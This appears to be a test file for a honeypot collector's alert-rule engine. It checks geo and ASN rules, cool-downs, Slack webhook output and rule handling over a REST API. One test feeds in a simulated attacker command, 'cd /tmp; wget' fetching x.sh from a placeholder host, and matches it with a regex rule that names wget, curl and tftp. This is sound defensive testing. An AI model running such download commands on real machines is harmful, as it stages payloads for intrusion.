import { describe, expect, test } from "bun:test";
import { join } from "node:path";
import { getJson, startTestCore, tempDir, type TestCore } from "../helpers";
import { rulesCaughtUp, sendEvents, waitFor } from "../helpers/outputs";

/** A Slack-like incoming webhook: keeps each message's text. */
function slack() {
  const texts: string[] = [];
  const server = Bun.serve({
    port: 0,
    hostname: "127.0.0.1",
    async fetch(req) {
      texts.push(((await req.json()) as { text: string }).text);
      return new Response("ok");
    },
  });
  return { server, texts, lines: () => texts.flatMap((t) => t.split("\n")), [Symbol.dispose]: () => server.stop(true) };
}

const rulesStatus = async (core: TestCore) => (await getJson(`${core.api}/api/v1/stats`)).body.rules;
const settled = rulesCaughtUp;
const T0 = Date.parse("2026-11-23T04:00:00Z");
const at = (s: number) => new Date(T0 + s * 1000).toISOString();

describe("alert rules", () => {
  test("country, ASN and new-ASN rules read the enrichment's geo of each event", async () => {
    using hook = slack();
    await using core = await startTestCore({
      outputs: [{ name: "slack", type: "webhook", preset: "slack", url: `http://127.0.0.1:${hook.server.port}/`, event_types: [] }],
      rules: [
        { name: "from-us", match: { country: "US", asn: 15169 }, outputs: ["slack"] },
        { name: "new-asn", severity: "low", new_value: "geo.asn", outputs: ["slack"] },
      ],
    });
    const failed = (s: number, src_ip: string) => ({ eventid: "cowrie.login.failed", username: "root", password: "x", src_ip, timestamp: at(s) });
    // 8.8.8.8 and 8.8.4.4 are Google's (US, AS15169); 1.1.1.1 is Cloudflare's (AS13335); 192.0.2.1 is known to no database.
    await sendEvents(core, [failed(0, "8.8.8.8"), failed(1, "8.8.4.4"), failed(2, "1.1.1.1"), failed(3, "192.0.2.1")]);
    await settled(core);
    const alerts = async (type: string) => ((await getJson(`${core.api}/api/v1/events?event_type=${type}`)).body.events as any[]).map((e) => e.src_ip).sort();
    expect(await alerts("alert.from-us")).toEqual(["8.8.4.4", "8.8.8.8"]);
    expect(await alerts("alert.new-asn")).toEqual(["1.1.1.1", "8.8.8.8"]);
  });

  test("the shipped examples fire once per cool-down, are stored as alert events and reach the outputs they name", async () => {
    using hook = slack();
    await using core = await startTestCore({
      outputs: [{ name: "slack", type: "webhook", preset: "slack", url: `http://127.0.0.1:${hook.server.port}/`, event_types: [] }],
      rules: [
        { name: "successful-login", severity: "high", match: { event_type: "*.login.success" }, cooldown_ms: 600_000, outputs: ["slack"] },
        { name: "download-command", severity: "high", match: { event_type: "cowrie.command.input", fields: [{ field: "data.input", regex: "\\b(wget|curl|tftp)\\b" }] }, outputs: ["slack"] },
      ],
    });
    const login = (s: number, src_ip = "203.0.113.7") => ({ eventid: "cowrie.login.success", username: "root", password: "123456", src_ip, timestamp: at(s) });
    await sendEvents(core, [
      login(0),
      login(10),
      login(20),
      { eventid: "cowrie.command.input", input: "uname -a", timestamp: at(30) },
      { eventid: "cowrie.command.input", input: "cd /tmp; wget http://198.51.100.9/x.sh", timestamp: at(31) },
      login(40, "198.51.100.1"),
      login(300),
      login(601),
    ]);
    await settled(core);
    await waitFor(() => hook.lines().length >= 4, "4 alerts in Slack");
    expect(hook.lines()).toEqual([
      "[high] successful-login: matched rule successful-login from 203.0.113.7 on ssh-01 cowrie (cowrie.login.success: user root/123456)",
      "[high] download-command: matched rule download-command from 203.0.113.7 on ssh-01 cowrie (cowrie.command.input: command cd /tmp; wget http://198.51.100.9/x.sh)",
      "[high] successful-login: matched rule successful-login from 198.51.100.1 on ssh-01 cowrie (cowrie.login.success: user root/123456)",
      "[high] successful-login: matched rule successful-login from 203.0.113.7 on ssh-01 cowrie (cowrie.login.success: user root/123456)",
    ]);
    expect(await rulesStatus(core)).toMatchObject({ alerts: 4, suppressed: { "successful-login": 3, "download-command": 0 } });

    const stored = (await getJson(`${core.api}/api/v1/events?event_type=alert.download-command`)).body.events;
    expect(stored).toHaveLength(1);
    expect(stored[0]).toMatchObject({
      pot_id: "ssh-01",
      pot_type: "cowrie",
      event_type: "alert.download-command",
      src_ip: "203.0.113.7",
      data: { rule: "download-command", severity: "high", count: 1, outputs: ["slack"], trigger: { event_type: "cowrie.command.input", timestamp: at(31), data: { input: "cd /tmp; wget http://198.51.100.9/x.sh" } } },
    });
    // Raised when Core read the event, days after the time the event names.
    expect(Date.parse(stored[0].timestamp)).toBeGreaterThan(Date.parse(at(31)));
  });

  test("rules over REST: checked (schema, regex, outputs), listed, removed; config rules stay; new values are remembered across restarts", async () => {
    using dir = tempDir();
    const config = { db: join(dir.path, "core.db"), rules: [{ name: "from-config", match: { event_type: "never" } }] };
    {
      await using core = await startTestCore(config);
      const post = (body: unknown) => getJson(`${core.api}/api/v1/rules`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });
      expect((await post({ name: "r", match: { fields: [{ field: "data.input", regex: "(wget" }] } })).body.error.message).toBe("invalid rule: fields: data.input: invalid regular expression: missing closing ): `(wget`");
      expect((await post({ name: "r", match: { src_ip: "10.0.0.0/40" } })).body).toEqual({ error: { code: "bad_request", message: 'invalid rule: src_ip: "10.0.0.0/40" is not an address or CIDR block' } });
      expect((await post({ name: "r", outputs: ["nowhere"] })).body).toEqual({ error: { code: "bad_request", message: "invalid rule: /outputs names no output: nowhere" } });
      expect((await post({ name: "r", threshold: { count: 1, window_ms: 10 } })).status).toBe(400);
      expect((await post({ name: "r", colour: "red" })).status).toBe(400);

      const created = await post({ name: "new-user", new_value: "data.username" });
      expect(created.status).toBe(201);
      expect(created.body).toEqual({ rule: { name: "new-user", new_value: "data.username", severity: "medium", cooldown_ms: 600000, outputs: [] }, origin: "api", paused: false });
      expect((await post({ name: "new-user" })).status).toBe(409);
      expect((await getJson(`${core.api}/api/v1/rules`)).body.rules.map((r: any) => [r.rule.name, r.origin])).toEqual([
        ["from-config", "config"],
        ["new-user", "api"],
      ]);
      expect((await getJson(`${core.api}/api/v1/rules/from-config`, { method: "DELETE" })).status).toBe(409);

      await sendEvents(core, [{ username: "root" }, { username: "admin" }, { username: "root" }]);
      await settled(core);
      expect((await rulesStatus(core)).alerts).toBe(2);
    }
    await using core = await startTestCore(config);
    await sendEvents(core, [{ username: "root" }, { username: "oracle" }]);
    await settled(core);
    const alerts = (await getJson(`${core.api}/api/v1/events?event_type=alert.new-user`)).body.events;
    expect(alerts.map((a: any) => a.data.reason)).toEqual(["new data.username oracle", "new data.username admin", "new data.username root"]);
    expect((await getJson(`${core.api}/api/v1/rules/new-user`, { method: "DELETE" })).body).toEqual({ deleted: "new-user" });
    expect((await getJson(`${core.api}/api/v1/rules/new-user`)).status).toBe(404);
  });
});
